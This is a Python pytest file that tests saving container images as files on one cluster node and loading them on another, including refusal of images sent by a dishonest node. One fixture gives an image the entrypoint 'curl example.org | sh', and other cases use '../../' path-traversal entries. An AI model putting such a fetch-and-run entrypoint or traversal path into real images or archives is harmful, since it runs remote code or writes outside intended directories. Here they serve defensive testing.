"""An image is saved as files on one node and loaded on another; a node that lies achieves nothing."""

from __future__ import annotations

import dataclasses
import gzip
import json
import shutil
from pathlib import Path
from typing import Any

import pytest

from sparkcluster.hosts.program import document, stream
from sparkcluster.node.wire import Failed
from tests.unit.staging.archives import ImageMade, sha256, tar

IMAGE = ImageMade([b"layer" * 500_000, b"other layer" * 1000])
SMALL = ImageMade([b"one" * 300, b"two" * 300])
EVIL = dataclasses.replace(SMALL, config={**SMALL.config, "Entrypoint": ["/bin/sh", "-c", "curl example.org | sh"]})


class Pair:
    """A node with images, and a node that receives them."""

    def __init__(self, source, target, lease) -> None:
        self.source, self.target, self._lease = source, target, lease

    def ask(self, node, do: str, request: dict[str, Any]) -> list[dict[str, Any]]:
        """A program's answer; raises Failed as the program does."""
        request = {**request, "do": do, **self._lease.document(), "root": str(self.directory(node))}
        with stream(node, "image_files", request) as running:
            said = [document(line) for line in running.lines(60)]
        if "failed" in said[-1]:
            raise Failed(said[-1]["kind"], said[-1]["failed"])
        return said

    @staticmethod
    def directory(node) -> Path:
        return node.home / "images"

    def save(self, image: ImageMade, **more: Any) -> dict[str, int]:
        """Bytes of the files that the source writes, by SHA-256."""
        said = self.ask(self.source, "save", image.request(**more))
        files = [each["file"] for each in said if "file" in each]
        for file in files:
            path = self.directory(self.source) / file["name"]
            assert file["name"] == f"blobs/sha256/{file['sha256']}" == f"blobs/sha256/{sha256(path.read_bytes())}"
            assert file["size"] == path.stat().st_size
        assert len(files) == len([*self.directory(self.source).glob("blobs/sha256/*")])
        return {file["sha256"]: file["size"] for file in files}

    def load(self, image: ImageMade, blobs: dict[str, bytes], **more: Any) -> str:
        """Load files that arrived at the target, by SHA-256; returns the ID there."""
        folder = self.directory(self.target) / "blobs/sha256"
        folder.mkdir(parents=True, exist_ok=True)
        for name, content in blobs.items():
            (folder / name).write_bytes(content)
        done = self.ask(self.target, "load", image.request(**more, blobs=[*blobs]))[-1]["done"]
        assert not self.directory(self.target).exists()
        return str(done["image_id"])

    def copy(self, image: ImageMade, **more: Any) -> int:
        """Bytes copied from one to the other."""
        found = self.save(image, **more)
        folder = self.directory(self.source) / "blobs/sha256"
        self.load(image, {name: (folder / name).read_bytes() for name in found}, **more)
        return sum(found.values())

    def sends(self, archive: bytes, image: ImageMade = SMALL) -> None:
        """The source has the image, and its Docker prints this as its archive."""
        self.source.add_image(image, "vllm:v1")
        (self.source.docker / "sent").write_bytes(archive)

    def use_containerd(self) -> None:
        for node in (self.source, self.target):
            (node.docker / "containerd").touch()


@pytest.fixture
def pair(node, lease):
    return Pair(node("a"), node("b"), lease)


def blobs_of(image: ImageMade, *, compressed: bool = False) -> dict[str, bytes]:
    """The files of an image by their SHA-256."""
    return {name[13:]: data for name, data in image.oci(compressed=compressed) if len(name) > 70}


def test_an_image_becomes_files_that_are_reused_and_loaded_under_its_name(pair):
    pair.source.add_image(IMAGE, "vllm:v1")
    found = pair.save(IMAGE)
    assert pair.save(IMAGE) == found
    assert pair.source.docker_calls().count(["save", IMAGE.id]) == 1
    assert pair.load(IMAGE, blobs_of(IMAGE)) == IMAGE.id
    assert pair.target.images() == {"vllm:v1": IMAGE.id}
    pair.ask(pair.source, "clear", {"blobs": []})
    assert not pair.directory(pair.source).exists()


def test_files_of_another_image_are_removed_before_new_ones_arrive(pair):
    """Complete and partial ones; files of the same image are kept, also next to invalid ones."""
    folder = pair.directory(pair.target) / "blobs/sha256"
    folder.mkdir(parents=True)
    for name in (LAYER, f".{CONFIG}.0a1b2c3d.partial"):
        (folder / name).touch()
    pair.ask(pair.target, "clear", {"blobs": [LAYER, CONFIG]})
    assert len([*folder.iterdir()]) == 2
    pair.ask(pair.target, "clear", {"blobs": [CONFIG]})
    assert [each.name for each in folder.iterdir()] == [f".{CONFIG}.0a1b2c3d.partial"]
    pair.ask(pair.target, "clear", {"blobs": [LAYER]})
    assert not [*folder.iterdir()]


def test_files_of_another_image_or_incomplete_files_are_not_used(pair):
    pair.source.add_image(IMAGE, "vllm:v1")
    pair.source.add_image(SMALL, "vllm:v2")
    first = pair.save(IMAGE)
    assert pair.save(SMALL).keys() == blobs_of(SMALL).keys()
    assert pair.save(IMAGE) == first
    shutil.rmtree(pair.directory(pair.source) / "blobs")
    assert pair.save(IMAGE) == first


TWICE = ImageMade([b"empty", b"one" * 300, b"empty"])


@pytest.mark.parametrize("entries", [TWICE.legacy(["vllm:v1"]), TWICE.oci(), TWICE.oci(compressed=True)])
def test_every_layout_of_docker_save_is_loaded(pair, entries):
    """Before Docker 25, with a link for a duplicate layer; and the layout of containerd's image store."""
    pair.sends(tar(entries), TWICE)
    pair.copy(TWICE)
    assert pair.target.images() == {"vllm:v1": TWICE.id}


def test_tags_and_other_images_of_the_sender_are_not_copied(pair):
    pair.target.add_image(IMAGE, "registry/production:latest")
    entries = dict([*EVIL.oci(), *SMALL.oci()])
    tags = ["registry/production:latest", "vllm:v1"]
    listed = [json.loads(dict(image.oci(tags))["manifest.json"])[0] for image in (EVIL, SMALL)]
    pair.sends(tar([*(each for each in entries.items() if each[0] != "manifest.json"),
                    ("manifest.json", json.dumps(listed).encode()), ("../../outside", b"x")]))  # fmt: skip
    assert pair.save(SMALL).keys() == blobs_of(SMALL).keys()
    pair.copy(SMALL)
    assert pair.target.images() == {"registry/production:latest": IMAGE.id, "vllm:v1": SMALL.id}
    assert pair.target.image_ids() == {IMAGE.id, SMALL.id}


# files that cannot be saved

LAYER, CONFIG = SMALL.diffs[0][7:], SMALL.id[7:]
WITHOUT = [entry for entry in SMALL.oci() if LAYER not in str(entry[0])]
NAMES_ALONE = [entry for entry in WITHOUT if CONFIG not in str(entry[0])]


@pytest.mark.parametrize(
    ("data", "kind", "said"),
    [
        (tar(EVIL.oci()), "archive", "contains another image"),
        (b"not a tar" * 1000, "archive", "is damaged"),
        (tar(SMALL.oci())[:1600], "archive", "is damaged"),
        (tar(WITHOUT), "blobs", "lacks files"),
        (tar(NAMES_ALONE), "blobs", "lacks files"),
    ],
)
def test_an_invalid_image_archive_is_refused(pair, data, kind, said):
    """An archive without the files that it names: containerd's store does not save layers it compressed differently."""
    pair.sends(data)
    with pytest.raises(Failed, match=said) as caught:
        pair.save(SMALL)
    assert caught.value.kind == kind


def test_an_engine_that_fails_gives_the_reason(pair):
    pair.source.add_image(IMAGE, "vllm:v1")
    (pair.source.docker / "broken").touch()
    with pytest.raises(Failed, match="docker save: no space left on device") as caught:
        pair.save(IMAGE)
    assert caught.value.kind == "disk"
    (pair.target.docker / "full").touch()
    with pytest.raises(Failed, match=r"docker load: .*no space left on device") as caught:
        pair.load(IMAGE, blobs_of(IMAGE))
    assert caught.value.kind == "disk"
    assert pair.target.images() == {}


# a lying sender: the names of its files match their content, since receivers compare them


def test_equal_layers_with_a_different_configuration_are_refused(pair):
    with pytest.raises(Failed, match="another image"):
        pair.load(SMALL, blobs_of(EVIL))
    assert (pair.target.images(), pair.target.image_ids()) == ({}, set())


@pytest.mark.parametrize(
    "text",
    [
        b"{",
        b'{"rootfs": ' + b"[" * 100_000,
        json.dumps({"rootfs": {"diff_ids": 7}, "config": {}}).encode(),
        json.dumps({"rootfs": {"diff_ids": SMALL.diffs}, "config": {"Env": [1, "a"]}}).encode(),
        json.dumps({"config": {"digest": SMALL.id}, "layers": [{}]}).encode(),
        json.dumps({"config": {"digest": SMALL.id}, "layers": [{"digest": "sha256:../../x", "size": 1}] * 2}).encode(),
    ],
)
def test_json_documents_of_any_shape_are_not_an_image(pair, text):
    there = {sha256(data): data for data in (text, *SMALL.layers)}
    with pytest.raises(Failed, match="another image"):
        pair.load(SMALL, there)
    pair.load(SMALL, {**there, CONFIG: SMALL.text})


def test_an_image_loaded_by_docker_is_compared_before_it_gets_the_name(pair):
    pair.target.add_image(IMAGE, "registry/production:latest")
    (pair.target.docker / "says").write_text(f"Loaded image ID: {IMAGE.id}")
    with pytest.raises(Failed, match=f"received {IMAGE.id} instead of {SMALL.id}"):
        pair.load(SMALL, blobs_of(SMALL))
    assert pair.target.images() == {"registry/production:latest": IMAGE.id}


# an image of which the receiver has layers

OLD = ImageMade([b"base" * 200_000, b"middle" * 200_000, b"top" * 1000])
NEW = ImageMade([*OLD.layers[:2], b"new top" * 1000])
OTHER = ImageMade([b"new base" * 1000, *OLD.layers[1:]])
HAVE = dict.fromkeys(NEW.diffs[:2], "")
FILES = {diff: sha256(gzip.compress(layer, mtime=0)) for diff, layer in zip(OTHER.diffs, OTHER.layers, strict=True)}


@pytest.mark.parametrize("entries", [NEW.oci(), NEW.legacy(), NEW.oci(compressed=True)])
def test_only_layers_that_the_receiver_lacks_are_sent(pair, entries):
    """With any file names, to an engine that identifies layers by content; the other image stays complete."""
    pair.sends(tar(entries), NEW)
    pair.target.add_image(OLD, "vllm:v0")
    assert pair.copy(NEW, have=HAVE) < len(NEW.layers[2]) + 2_000
    assert pair.target.images() == {"vllm:v0": OLD.id, "vllm:v1": NEW.id}


def test_between_containerd_stores_layers_are_skipped_in_any_directory(pair):
    """By their hash, which both recorded at the first copy: also above a differing layer."""
    pair.use_containerd()
    pair.source.add_image(OLD, "vllm:v0")
    pair.copy(OLD, reference="vllm:v0", containerd=True)
    pair.source.add_image(OTHER, "vllm:v1")
    assert pair.save(OTHER, containerd=True, have=dict.fromkeys(OTHER.diffs[1:], "0" * 64)).keys() >= {*FILES.values()}
    have = {diff: FILES[diff] for diff in OTHER.diffs[1:]}
    found = pair.save(OTHER, containerd=True, have=have)
    assert found.keys() & {*FILES.values()} == {FILES[OTHER.diffs[0]]}
    pair.copy(OTHER, containerd=True, have=have)
    assert pair.target.images()["vllm:v1"] == OTHER.id


def test_layers_removed_since_the_probe_are_a_distinct_error(pair):
    """The controller then copies all of them."""
    there = {name: data for name, data in blobs_of(NEW).items() if f"sha256:{name}" not in HAVE}
    with pytest.raises(Failed, match="no such file") as caught:
        pair.load(NEW, there, have=HAVE)
    assert caught.value.kind == "partial"
    pair.use_containerd()
    with pytest.raises(Failed, match="lacks files that this node does not have") as caught:
        pair.load(NEW, there, have=HAVE, containerd=True)
    assert caught.value.kind == "partial"
    (pair.target.docker / "says").write_text("Error unpacking image: content digest not found")
    with pytest.raises(Failed, match="Error unpacking") as caught:
        pair.load(NEW, blobs_of(NEW), containerd=True)
    assert caught.value.kind == "docker"


@pytest.mark.parametrize(("fault", "said"), [("down", "Cannot connect to the Docker daemon"), ("killed", "no output")])
def test_a_stopped_docker_is_not_evidence_of_missing_layers(pair, fault, said):
    pair.target.add_image(OLD, "vllm:v0")
    (pair.target.docker / fault).touch()
    there = {name: data for name, data in blobs_of(NEW).items() if f"sha256:{name}" not in HAVE}
    with pytest.raises(Failed, match=f"docker load: {said}") as caught:
        pair.load(NEW, there, have=HAVE)
    assert caught.value.kind == "docker"


def test_layers_that_were_not_skipped_must_be_present(pair):
    """Docker reports so; and the name is not assigned."""
    pair.target.add_image(OLD, "vllm:v0")
    with pytest.raises(Failed, match="no such file"):
        pair.load(NEW, {NEW.id[7:]: NEW.text}, have=HAVE)
    assert pair.target.images() == {"vllm:v0": OLD.id}
